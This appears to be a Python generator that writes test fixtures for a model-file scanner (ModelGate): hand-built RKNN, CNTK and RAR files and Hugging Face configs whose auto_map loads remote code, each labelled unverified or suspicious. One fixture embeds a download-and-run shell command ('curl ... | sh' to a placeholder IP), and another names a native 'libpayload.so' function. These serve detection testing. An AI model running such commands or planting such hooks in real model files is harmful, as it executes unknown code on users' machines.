#!/usr/bin/env python3
"""Writes test/fixtures/formats/opaque: formats ModelGate recognises by their signature but cannot read
(Rockchip RKNN, Microsoft CNTK, RAR) and Hugging Face configs that name Python code (auto_map).

No RKNN, CNTK or RAR writer is installable here, so the files are built by hand:
- RKNN: rknn-toolkit2 files start with the ASCII signature "RKNN" (github.com/airockchip/rknn-toolkit2);
  the rest of the layout is not published, so only the signature and some JSON metadata are written.
- CNTK v1: the BrainScript binary opens with the UTF-16LE section marker "BCN" and a "BVersion" section
  (CNTK Source/ComputationNetworkLib/ComputationNetwork.cpp, SaveToFileImpl).
- CNTK v2: a protobuf `Dictionary` (CNTK Source/CNTKv2LibraryDll/proto/CNTK.proto): map<string,
  DictionaryValue> data = 2... the key/value entries "version", "uid", "type" = "CompositeFunction".
- RAR 5: the RARLAB technote (www.rarlab.com/technote.htm): signature, main archive header, one stored
  file header and the end-of-archive header, each with its CRC32. If bsdtar (libarchive) is installed it
  lists the archive, as an outside check that the bytes are a real RAR 5 archive.

Run: python3 scripts/gen_opaque_fixtures.py
"""
import json
import shutil
import subprocess
import zlib
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "test/fixtures/formats/opaque"
LABELS = []


def emit(name, data, expect, fmt, made_by, what):
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    LABELS.append({"path": name, "expect": expect, "format": fmt, "madeBy": made_by, "what": what})


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_bytes(field, payload):
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def pb_varint(field, value):
    return varint(field << 3) + varint(value)


def cntk_entry(key, value):
    # Dictionary.data is map<string, DictionaryValue>: each entry is a message {1: key, 2: value}.
    return pb_bytes(2, pb_bytes(1, key.encode()) + pb_bytes(2, value))


def cntk_v2(extra=b""):
    # DictionaryValue: version = 1 (uint64), value_type = 5 (String), string_value = 6 (CNTK.proto).
    version = pb_varint(1, 1) + pb_varint(2, 5)
    string = lambda s: pb_varint(1, 1) + pb_varint(2, 9) + pb_bytes(6, s.encode())
    body = pb_varint(1, 1)  # Dictionary.version
    body += cntk_entry("version", version + pb_varint(5, 1))
    body += cntk_entry("uid", string("CompositeFunction42"))
    body += cntk_entry("type", string("CompositeFunction"))
    body += cntk_entry("primitive_functions", string("Times;Plus;ReLU" + extra.decode()))
    return body


def rar5_block(header_type, fields, flags=0, data=b""):
    header = varint(header_type) + varint(flags) + fields
    header = varint(len(header)) + header
    return zlib.crc32(header).to_bytes(4, "little") + header + data


def rar5(name, content):
    sig = b"Rar!\x1a\x07\x01\x00"
    main = rar5_block(1, varint(0))
    # File header: data size (flag 0x0002), file flags 0x0004 (CRC32 present), unpacked size, attributes,
    # data CRC32, compression info 0 (version 0, store), host OS 1 (Unix), name length, name.
    fields = (
        varint(len(content)) + varint(0x0004) + varint(len(content)) + varint(0o644)
        + zlib.crc32(content).to_bytes(4, "little") + varint(0) + varint(1) + varint(len(name)) + name.encode()
    )
    file_block = rar5_block(2, fields, flags=0x0002, data=content)
    end = rar5_block(5, varint(0))
    return sig + main + file_block + end


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    meta = json.dumps({"target_platform": "rk3588", "version": "2.3.0", "inputs": ["images"]}).encode()
    rknn = b"RKNN" + (1).to_bytes(4, "little") + len(meta).to_bytes(8, "little") + meta + bytes(range(256)) * 4
    emit("model.rknn", rknn, "unverified", "rknn", "hand-built: the RKNN signature (rknn-toolkit2)",
         "An RKNN header with JSON metadata: recognised, its content cannot be followed.")
    payload = json.dumps({"custom_op": "os.system('curl http://203.0.113.9/x | sh')"}).encode()
    emit("rknn-command.rknn", rknn + payload, "suspicious", "rknn", "hand-built: the RKNN signature (rknn-toolkit2)",
         "An RKNN file that carries a shell command that downloads and runs a script.")
    utf16 = lambda s: s.encode("utf-16-le")
    legacy = utf16("BCN\0") + utf16("BVersion\0") + (26).to_bytes(8, "little") + utf16("ECN\0") + bytes(200)
    emit("model-v1.dnn", legacy, "unverified", "cntk", "hand-built from CNTK ComputationNetwork::SaveToFileImpl",
         "A CNTK v1 (BrainScript) model header: recognised, not followed.")
    emit("model-v2.cmf", cntk_v2(), "unverified", "cntk", "hand-built from CNTK.proto (Dictionary)",
         "A CNTK v2 protobuf Dictionary with version, uid and a CompositeFunction.")
    emit("model-v2-native.cmf", cntk_v2(b";native_user_function:libpayload.so"), "suspicious", "cntk",
         "hand-built from CNTK.proto (Dictionary)",
         "A CNTK v2 model that names a native user function in a shared library.")
    archive = rar5("model/config.json", b'{"model_type": "bert"}\n')
    emit("model.rar", archive, "unverified", "rar", "hand-built from the RARLAB RAR 5.0 technote",
         "A RAR 5 archive with one stored file: ModelGate does not unpack RAR."
         + (" bsdtar lists it: " + listing(archive) if listing(archive) else ""))
    config = {"model_type": "phi-custom", "architectures": ["PhiForCausalLM"], "hidden_size": 64,
              "auto_map": {"AutoConfig": "configuration_phi.PhiConfig",
                           "AutoModelForCausalLM": "modeling_phi.PhiForCausalLM"}}
    emit("remote-code/config.json", json.dumps(config, indent=2) + "\n", "suspicious", "text",
         "hand-built from the transformers custom-model layout",
         "A config.json whose auto_map makes transformers import modeling_phi.py (trust_remote_code).")
    other = {"model_type": "x", "auto_map": {"AutoModel": "someone/other-repo--modeling_x.XModel"}}
    emit("remote-code-other-repo/config.json", json.dumps(other, indent=2) + "\n", "suspicious", "text",
         "hand-built from the transformers custom-model layout",
         "A config.json whose auto_map loads code from another repository at load time.")
    (OUT / "labels.json").write_text(json.dumps({"files": LABELS}, indent=2) + "\n")


def listing(archive):
    if not shutil.which("bsdtar"):
        return ""
    tmp = OUT / ".check.rar"
    tmp.write_bytes(archive)
    try:
        out = subprocess.run(["bsdtar", "-tf", str(tmp)], capture_output=True, text=True, timeout=30)
        return out.stdout.strip() if out.returncode == 0 else ""
    finally:
        tmp.unlink()


if __name__ == "__main__":
    main()
